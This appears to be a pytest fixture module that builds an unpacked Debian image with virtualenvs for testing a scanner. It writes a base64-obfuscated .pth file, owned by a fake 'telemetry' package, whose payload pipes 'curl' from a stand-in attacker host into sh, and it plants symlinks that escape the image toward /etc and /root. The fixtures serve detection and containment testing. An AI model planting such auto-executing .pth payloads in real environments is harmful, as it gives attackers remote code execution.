"""An unpacked image made of real Debian packages: tools/sid_oracle.py's tree (sid's
python3.14, python3.15 and python3.15d, unpacked from the apt registry), hard-linked
into a folder, with venvs made inside it the way ``python -m venv`` makes them there, a
planted ``.pth`` file owned by a fake distribution, and traps for containment (absolute
symlinks pointing out of the image, ``..``-heavy paths)."""

from __future__ import annotations

import base64
import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from .helpers import SID_TREE

PAYLOAD = "import os; os.system('curl -s http://attacker.invalid/x | sh')"


def _record_row(path: Path, rel: str) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(path.read_bytes()).digest()).rstrip(b"=")
    return f"{rel},sha256={digest.decode()},{path.stat().st_size}\n"


def venv_in_image(root: Path, where: str, version: str, *, system: bool = False) -> Path:
    """A venv at image path *where* for the image's ``/usr/bin/python{version}``."""
    home = root / where.lstrip("/")
    (home / "bin").mkdir(parents=True)
    (home / "lib" / f"python{version}" / "site-packages").mkdir(parents=True)
    (home / "pyvenv.cfg").write_text(
        f"home = /usr/bin\ninclude-system-site-packages = {'true' if system else 'false'}\n"
        f"version = {version}\nexecutable = /usr/bin/python{version}\n")
    os.symlink(f"/usr/bin/python{version}", home / "bin" / "python")
    os.symlink("python", home / "bin" / "python3")
    os.symlink("python", home / "bin" / f"python{version}")
    return home


def debian_pythons(root: Path) -> set[str]:
    """The image paths of the sid interpreters the tree holds (``python3.15d`` only when
    tools/sid_oracle.py was run with ``--debug``)."""
    names = {p.name for p in (root / "usr" / "bin").glob("python3.*")}
    return {f"/usr/bin/{n}" for n in names
            if n[len("python3."):].rstrip("d").isdigit() and not n.endswith("-config")}


def build_image(root: Path, *, venvs: int = 3) -> dict[str, str]:
    """The image at *root*; returns the image paths the tests look for."""
    if not (SID_TREE / "usr" / "bin" / "python3.14").exists():
        pytest.skip("no .oracles/sid tree (run tools/sid_oracle.py)")
    if not root.exists():
        root.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["cp", "-al", str(SID_TREE), str(root)], check=True)
    found: dict[str, str] = {}
    versions = ["3.14", "3.15", "3.14", "3.15", "3.14"]
    for n in range(venvs):
        where = f"/opt/app{n}/.venv"
        if not (root / where.lstrip("/")).exists():
            venv_in_image(root, where, versions[n % len(versions)], system=n == 1)
        found[f"venv{n}"] = where
    site = root / "opt/app0/.venv/lib/python3.14/site-packages"
    evil = site / "telemetry_init.pth"
    if not evil.exists():
        blob = base64.b64encode(PAYLOAD.encode()).decode()
        evil.write_text(f"import base64; exec(base64.b64decode('{blob}'))\n")
        meta = site / "telemetry-0.1.dist-info"
        meta.mkdir()
        (meta / "METADATA").write_text("Metadata-Version: 2.1\nName: telemetry\nVersion: 0.1\n\n")
        (meta / "RECORD").write_text(_record_row(evil, evil.name) + f"{meta.name}/RECORD,,\n")
    found["evil"] = "/opt/app0/.venv/lib/python3.14/site-packages/telemetry_init.pth"
    # traps: an absolute link out of the image, ..-heavy links and a .pth naming them
    traps = root / "opt" / "traps"
    if not traps.exists():
        (traps / "bin").mkdir(parents=True)
        os.symlink("/usr/bin/python3", traps / "bin" / "python3.99")  # host path: stays inside
        os.symlink("../../../../../../../../../etc", traps / "etc-up")
        os.symlink("/../../../../root/.pyenv", traps / "pyenv-up")
        (site / "traps.pth").write_text(
            "/../../../../../../etc\n../../../../../../../../../../root\n/opt/traps/pyenv-up\n")
    return found
